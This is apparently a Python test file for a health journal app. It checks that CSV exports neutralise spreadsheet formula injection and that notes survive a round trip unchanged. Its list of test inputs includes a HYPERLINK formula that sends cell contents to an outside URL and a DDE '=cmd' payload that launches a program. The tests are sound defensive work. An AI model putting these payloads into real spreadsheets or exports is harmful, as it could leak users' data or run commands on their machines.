"""CSV export never hands a spreadsheet a formula, and our own CSV reads back every note exactly."""

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from carecompanion import paths
from carecompanion.actions import files
from carecompanion.db.journal import open_journal
from carecompanion.domain.records import Recorder
from carecompanion.domain.transfer import CheckInRecord, Stamps
from carecompanion.export import csv_file
from carecompanion.services import checkins, exports, transfer

NOW = datetime(2026, 3, 20, 12, 0, tzinfo=UTC)
WHEN = NOW - timedelta(hours=2)
RISKY = [
    '=HYPERLINK("http://example.com/?"&A1, "click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",  # full-width equals sign
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "'=1+1",  # a quote the person typed, before a formula character
    "''@x",
    "'plain quote",
    "'",
    "",
    "plain",
    '=cmd|" /C calc"!A0, "two", \r\n lines',
]
# Every text but lone surrogates, which UTF-8 cannot carry and the rules refuse.
NOTES = st.one_of(
    st.text(st.characters(exclude_categories=("Cs",))),
    st.text(st.sampled_from("'=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\",a ")),
)


def record(note: str) -> CheckInRecord:
    return CheckInRecord(
        uuid.uuid4(), WHEN, Recorder.PATIENT, {"pain": 3}, note, None, Stamps(WHEN, WHEN)
    )


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def opens_as_a_formula(cell: str) -> bool:
    return bool(cell) and cell[0] in csv_file.FORMULA_STARTS


@pytest.mark.parametrize("note", RISKY)
def test_no_cell_of_the_export_begins_as_a_formula(note):
    data = csv_file.dumps([record(note)], ["pain"], UTC)
    rows = cells(data)
    assert not any(opens_as_a_formula(cell) for row in rows for cell in row)
    if opens_as_a_formula(note):
        written = rows[1][-2]
        assert written == "'" + note
        # OWASP: the neutralised cell is quoted too, not only given its leading quote.
        assert ('"' + written.replace('"', '""') + '"').encode() in data


@pytest.mark.parametrize("note", RISKY)
def test_our_own_csv_gives_back_each_risky_note_exactly(note):
    data = csv_file.dumps([record(note)], ["pain"], UTC)
    assert csv_file.loads(data, NOW)[0].note == note


def test_a_quote_the_person_typed_stays_and_only_the_added_one_goes():
    data = csv_file.dumps([record("'=1+1"), record("'hello")], ["pain"], UTC)
    rows = cells(data)
    assert rows[1][-2] == "''=1+1"  # ours in front of theirs
    assert rows[2][-2] == "'hello"  # nothing a spreadsheet would run: left alone
    assert [r.note for r in csv_file.loads(data, NOW)] == ["'=1+1", "'hello"]


@given(st.text())
def test_neutralise_and_restore_are_exact_inverses_for_every_text(text):
    written = csv_file.neutralise(text)
    assert csv_file.restore(written) == text
    assert not opens_as_a_formula(written)


@given(NOTES)
def test_every_note_survives_the_csv_file_exactly(note):
    data = csv_file.dumps([record(note)], ["pain"], UTC)
    assert not any(opens_as_a_formula(cell) for row in cells(data) for cell in row)
    assert csv_file.loads(data, NOW)[0].note == note


def test_risky_notes_go_from_one_journal_to_another_through_csv_unchanged(tmp_path, ctx):
    source = open_journal(paths.resolve(tmp_path / "a"), now=NOW)
    with source.write() as s:
        for minutes, note in enumerate(RISKY):
            checkins.record(
                s, {"pain": 2}, note=note, recorded_at=WHEN - timedelta(minutes=minutes), now=NOW
            )
    file = exports.export_file(source, "csv", tmp_path / "a.csv", None, NOW, ctx.zone)
    target = open_journal(paths.resolve(tmp_path / "b"), now=NOW)
    files.import_file(target, ctx, file)

    def notes(journal):
        with journal.read() as s:
            return {c.id: c.note for c in transfer.checkin_records(s, None, None)}

    assert notes(target) == notes(source)
    assert sorted(notes(target).values()) == sorted(RISKY)
    source.close()
    target.close()
